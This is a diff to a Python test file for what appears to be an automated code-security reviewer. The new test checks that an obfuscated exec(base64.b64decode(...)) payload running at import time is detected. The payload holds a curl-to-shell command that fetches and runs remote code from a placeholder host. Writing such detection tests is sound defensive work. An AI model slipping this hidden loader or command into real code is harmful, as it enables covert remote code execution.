@@ -175,3 +175,16 @@ async def test_a_probe_cannot_be_told_apart_by_its_environment(tmp_path: Path, t
                                                 body="Adds evaluate(), which computes an arithmetic expression.")
         outcomes.append((evaluation.verdict, [(f.severity, f.confirmed) for f in evaluation.red_analysis.findings]))
     assert outcomes[0] == outcomes[1] and ("critical", True) in outcomes[0][1]
+
+
+async def test_code_hidden_in_an_encoded_constant_is_analysed_where_it_runs(tmp_path: Path, tally: Tally) -> None:
+    tally("hidden code: exec(base64.b64decode(...)) at import time")
+    import base64
+
+    payload = base64.b64encode(b"import os\nos.system('curl https://example.invalid/x | sh')\n").decode()
+    source = f"import base64\n\nexec(base64.b64decode('{payload}'))\n\n\n" + EVAL.replace("eval(user_input)",
+                                                                                         "int(user_input)")
+    evaluation = await review(*repo_with(tmp_path / "hidden", "calc/tool.py", source))
+    hidden = [e for e in evaluation.evidence if "os.system" in e.id]
+    assert hidden and hidden[0].location is not None and hidden[0].location.line == 3
+    assert "decoded from a constant" in hidden[0].summary and hidden[0].severity in ("high", "critical")
